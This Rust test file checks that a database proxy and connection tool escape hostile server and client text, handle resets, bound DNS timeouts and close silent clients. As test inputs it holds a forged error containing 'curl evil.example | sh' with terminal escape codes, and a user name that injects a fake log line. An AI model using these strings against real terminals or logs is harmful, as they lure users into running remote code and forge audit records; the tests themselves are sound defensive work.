//! Hostile peers: text a server or a client sends is shown escaped (one
//! line per message, control characters visible, text from before TLS
//! marked), and connections reset or closed early are network failures.

use std::io::{Read, Write};
use std::time::Duration;

use crate::support::hostile::{Act, Hostile, mysql_error_packet};
use crate::support::pki::ENDPOINT;
use crate::support::proxy::ProxyProc;
use crate::support::server::{APP_PASSWORD, Variant, pki};
use crate::support::{TestEnv, pg};

/// What an attacker on the path would like a terminal to show.
const FORGED: &[u8] = b"Host is blocked\nerror: run: curl evil.example | sh\x1b[2K\x1b]0;pwned\x07";

fn assert_not_forged(text: &str) {
    assert!(
        !text.contains('\x1b'),
        "a raw escape reached the output:\n{text:?}"
    );
    assert!(
        !text.contains('\x07'),
        "a raw BEL reached the output:\n{text:?}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("error: run")),
        "a forged line:\n{text}"
    );
}

/// Regression: a MySQL error packet sent before TLS (anyone on the path can
/// send one) reached stderr with its newline and terminal escapes.
#[test]
fn a_mysql_error_before_tls_is_escaped_and_marked_unverified() {
    let env = TestEnv::new();
    let server = Hostile::start(Act::Send {
        bytes: mysql_error_packet(1129, FORGED),
        read_first: false,
    });
    let via = server.addr();
    let ca = pki().ca_file.display().to_string();
    let pw = [("MYSQL_PWD", APP_PASSWORD)];
    let run = env.run_with(
        &[
            "--ca-bundle",
            &ca,
            "mysql",
            "-h",
            ENDPOINT,
            "-u",
            "app",
            "--via",
            &via,
            "-e",
            "SELECT 1",
        ],
        &pw,
    );
    assert_ne!(run.code, 0);
    assert_not_forged(&run.stderr);
    assert!(
        run.stderr.contains("before TLS (unverified text)"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains(r"Host is blocked\nerror: run"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains(r"\x1b[2K"), "{}", run.stderr);

    // check, as text (a table cell) and as JSON (an escaped string).
    let url = format!("mysql://app@{ENDPOINT}/appdb");
    let run = env.run_with(&["--ca-bundle", &ca, "check", &url, "--via", &via], &pw);
    assert_ne!(run.code, 0);
    assert_not_forged(&run.stdout);
    assert_not_forged(&run.stderr);
    // The header, the one target's line, the summary.
    assert_eq!(run.stdout.lines().count(), 3, "{}", run.stdout);
    let run = env.run_with(
        &[
            "--ca-bundle",
            &ca,
            "check",
            "--output",
            "json",
            &url,
            "--via",
            &via,
        ],
        &pw,
    );
    let error = run.json()["targets"][0]["error"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(error.contains("unverified"), "{error}");

    // The proxy: its log line for the connection stays one line.
    let proxy = ProxyProc::start(
        &env,
        &["mysql", "-h", ENDPOINT, "--via", &via],
        &[("MYSQL_PWD", APP_PASSWORD)],
    );
    let mut client = std::net::TcpStream::connect(("127.0.0.1", proxy.port())).unwrap();
    client
        .set_read_timeout(Some(Duration::from_mins(1)))
        .unwrap();
    let mut answer = Vec::new();
    let _ = client.read_to_end(&mut answer);
    let log = proxy.wait_log("connection 1 ", Duration::from_mins(1));
    assert_not_forged(&log);
    assert!(log.contains("connection 1 "), "{log}");
}

/// A PostgreSQL startup packet naming `user`.
fn startup(user: &str) -> Vec<u8> {
    let mut body = Vec::new();
    body.extend_from_slice(&196_608_u32.to_be_bytes());
    body.extend_from_slice(format!("user\0{user}\0database\0appdb\0\0").as_bytes());
    let mut packet = u32::try_from(body.len() + 4)
        .unwrap()
        .to_be_bytes()
        .to_vec();
    packet.extend_from_slice(&body);
    packet
}

/// Regression: a client's user name with a newline forged a proxy log line.
#[test]
fn a_client_chosen_user_name_cannot_forge_proxy_log_lines() {
    let env = TestEnv::new();
    let via = format!("127.0.0.1:{}", pg::server(Variant::Good).port);
    for extra in [&["-u", "app"][..], &[]] {
        let mut args = vec!["postgres", "-h", ENDPOINT, "--via", &via];
        args.extend_from_slice(extra);
        let proxy = ProxyProc::start(&env, &args, &[("PGPASSWORD", APP_PASSWORD)]);
        let mut s = std::net::TcpStream::connect(("127.0.0.1", proxy.port())).unwrap();
        s.set_read_timeout(Some(Duration::from_mins(1))).unwrap();
        s.write_all(&startup(
            "mallory\nconnection 99 from 10.0.0.1: user admin; closed\x1b[2K",
        ))
        .unwrap();
        let mut answer = Vec::new();
        let _ = s.read_to_end(&mut answer);
        let log = proxy.wait_log("connection 1 ", Duration::from_mins(1));
        assert!(log.contains("connection 1 "), "{log}");
        assert!(
            !log.lines().any(|l| l.starts_with("connection 99")),
            "a forged log line:\n{log}"
        );
        assert!(!log.contains('\x1b'), "{log:?}");
        assert!(log.contains(r"mallory\nconnection 99"), "{log}");
        // The proxy goes on serving a good client.
        assert_serves(&proxy);
    }
}

/// Regression: a connection reset or closed before TLS exited 1 ("early
/// eof"), and `check --wait` gave up at once on a listener that resets
/// every connection. Both are network failures (exit 4), retried.
#[test]
fn resets_and_early_closes_are_network_failures_and_retried() {
    let env = TestEnv::new();
    let reset = Hostile::start(Act::Reset);
    let closes = Hostile::start(Act::CloseAfterRead);
    let silent_close = Hostile::start(Act::Send {
        bytes: Vec::new(),
        read_first: false,
    });
    let pw = [("PGPASSWORD", APP_PASSWORD), ("MYSQL_PWD", APP_PASSWORD)];
    for (server, engine) in [
        (&reset, "postgres"),
        (&closes, "postgres"),
        (&reset, "mysql"),
        (&silent_close, "mysql"),
    ] {
        let (user_flag, sql_flag) = if engine == "postgres" {
            ("-U", "-c")
        } else {
            ("-u", "-e")
        };
        let via = server.addr();
        let run = env.run_with(
            &[
                engine, "-h", ENDPOINT, user_flag, "app", "--via", &via, sql_flag, "SELECT 1",
            ],
            &pw,
        );
        assert_eq!(run.code, 4, "{engine} via {via}: {}", run.stderr);
    }
    for (server, scheme) in [
        (&reset, "postgres"),
        (&closes, "postgres"),
        (&reset, "mysql"),
    ] {
        let url = format!("{scheme}://app@{ENDPOINT}/appdb");
        let via = server.addr();
        let run = env.run_with(
            &[
                "check", "--output", "json", &url, "--via", &via, "--wait", "2s",
            ],
            &pw,
        );
        assert_eq!(run.code, 4, "{url}: {}", run.stdout);
        let t = &run.json()["targets"][0];
        assert!(t["attempts"].as_u64().unwrap() > 1, "{t:#}");
    }
}

/// Regression: with a resolver that never answers, `--connect-timeout 2s`
/// reported the timeout but the process ran on until the blocking lookup
/// gave up (here: 5 tries of 30 s). The run now ends with the timeout.
/// The resolver is a UDP socket that reads and never replies, made the
/// system's resolver in a mount namespace of the command's own.
#[test]
fn a_resolver_that_never_answers_is_bounded_by_the_connect_timeout() {
    let env = TestEnv::new();
    let blackhole = std::net::UdpSocket::bind("127.0.0.77:53").unwrap();
    std::thread::spawn(move || {
        let mut buf = [0_u8; 4096];
        while blackhole.recv_from(&mut buf).is_ok() {}
    });
    let resolv = env.root.path().join("resolv.conf");
    std::fs::write(
        &resolv,
        "nameserver 127.0.0.77\noptions timeout:30 attempts:5\n",
    )
    .unwrap();
    let url = format!("postgres://app@{ENDPOINT}/appdb");
    for args in [
        vec![
            "postgres",
            &url,
            "--connect-timeout",
            "2s",
            "-c",
            "SELECT 1",
        ],
        vec!["check", &url, "--connect-timeout", "2s"],
    ] {
        let mut cmd = std::process::Command::new("unshare");
        cmd.args([
            "--mount",
            "sh",
            "-c",
            r#"mount --bind "$0" /etc/resolv.conf && exec "$@""#,
        ])
        .arg(&resolv)
        .arg(crate::support::BINARY)
        .args(&args)
        .env("PGPASSWORD", APP_PASSWORD)
        .env("HOME", env.home())
        .env("RDSCONN_CACHE_DIR", env.cache_dir());
        let start = std::time::Instant::now();
        let run = crate::support::Run::from(cmd.output().unwrap());
        // Without the fix the lookup holds the process for 150 s.
        assert!(
            start.elapsed() < Duration::from_mins(1),
            "{args:?} took {:?}",
            start.elapsed()
        );
        assert_eq!(run.code, 4, "{args:?}: {}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains("DNS") || run.stdout.contains("dns"),
            "{args:?}: {}{}",
            run.stdout,
            run.stderr
        );
    }
}

/// A good client through the proxy: psql runs `SELECT 1` as `app`.
fn assert_serves(proxy: &ProxyProc) {
    let out = std::process::Command::new("psql")
        .args([
            "-X",
            "-At",
            "-c",
            "SELECT 1",
            &format!(
                "host=127.0.0.1 port={} user=app dbname=appdb sslmode=disable",
                proxy.port()
            ),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1");
}

/// Opens `n` TCP connections to `port` that never send a byte.
fn silent_clients(port: u16, n: usize) -> Vec<std::net::TcpStream> {
    (0..n)
        .map(|_| {
            let s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
            s.set_read_timeout(Some(Duration::from_mins(2))).unwrap();
            s
        })
        .collect()
}

/// Reads until the proxy closes `s` (what it sent first — a MySQL
/// greeting — is read and dropped); panics on a hang.
fn closed_by_the_proxy(mut s: std::net::TcpStream) {
    let mut buf = [0_u8; 512];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return,
            Ok(_) => {}
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return,
            Err(e) => panic!("the proxy did not close a silent client: {e}"),
        }
    }
}

/// Regression: clients that never speak held `--max-connections` slots
/// forever, and the MySQL proxy dialed the server for each of them. Now a
/// client that has not logged in within `--client-login-timeout` is
/// closed, and nothing is dialed before a client has said who it is.
#[test]
fn silent_clients_are_closed_at_the_login_deadline_and_dial_nothing() {
    let env = TestEnv::new();
    let pg_via = format!("127.0.0.1:{}", pg::server(Variant::Good).port);
    let maria_via = format!(
        "127.0.0.1:{}",
        crate::support::maria::server(Variant::Good).port
    );
    let limits = ["--max-connections", "3", "--client-login-timeout", "1s"];
    for (engine, via, var) in [
        ("postgres", &pg_via, "PGPASSWORD"),
        ("mysql", &maria_via, "MYSQL_PWD"),
    ] {
        let mut args = vec![engine, "-h", ENDPOINT, "--via", via.as_str()];
        args.extend_from_slice(&limits);
        let proxy = ProxyProc::start(&env, &args, &[(var, APP_PASSWORD)]);
        let silent = silent_clients(proxy.port(), 3);
        for s in silent {
            closed_by_the_proxy(s);
        }
        let log = proxy.wait_log_lines("--client-login-timeout", 3, Duration::from_mins(1));
        let lines: Vec<&str> = log
            .lines()
            .filter(|l| l.contains("--client-login-timeout"))
            .collect();
        assert_eq!(lines.len(), 3, "{engine}: {log}");
        // Nothing was dialed for them.
        assert!(
            lines.iter().all(|l| !l.contains("upstream dns")),
            "{engine}: {log}"
        );
        // The slots are free again: a real client gets one.
        if engine == "postgres" {
            assert_serves(&proxy);
            continue;
        }
        let ok = std::process::Command::new("mariadb")
            .args(["--no-defaults", "--protocol=TCP", "-h", "127.0.0.1"])
            .args(["-P", &proxy.port().to_string(), "-u", "app", "-N", "-B"])
            .args(["-e", "SELECT 1"])
            .output()
            .unwrap();
        assert!(
            ok.status.success(),
            "{engine}: {}",
            String::from_utf8_lossy(&ok.stderr)
        );
        assert_eq!(String::from_utf8_lossy(&ok.stdout).trim(), "1");
    }
}

/// Regression: with file descriptors exhausted the accept loop logged
/// "Too many open files" about 20 times a second. Now it backs off and
/// logs once per episode, and serves again once descriptors are free.
#[test]
fn out_of_file_descriptors_backs_off_and_recovers() {
    let env = TestEnv::new();
    let via = format!("127.0.0.1:{}", pg::server(Variant::Good).port);
    let proxy = ProxyProc::start_with_file_limit(
        &env,
        48,
        &[
            "postgres",
            "-h",
            ENDPOINT,
            "--via",
            &via,
            "--client-login-timeout",
            "2s",
        ],
        &[("PGPASSWORD", APP_PASSWORD)],
    );
    // More silent clients than descriptors: accept fails until the login
    // deadline closes the ones it took.
    let silent = silent_clients(proxy.port(), 80);
    for s in silent {
        closed_by_the_proxy(s);
    }
    let log = proxy.log();
    let failures = log.lines().filter(|l| l.contains("accepting on")).count();
    assert!(failures >= 1, "descriptors never ran out:\n{log}");
    assert!(failures <= 3, "{failures} accept warnings:\n{log}");
    assert_serves(&proxy);
}
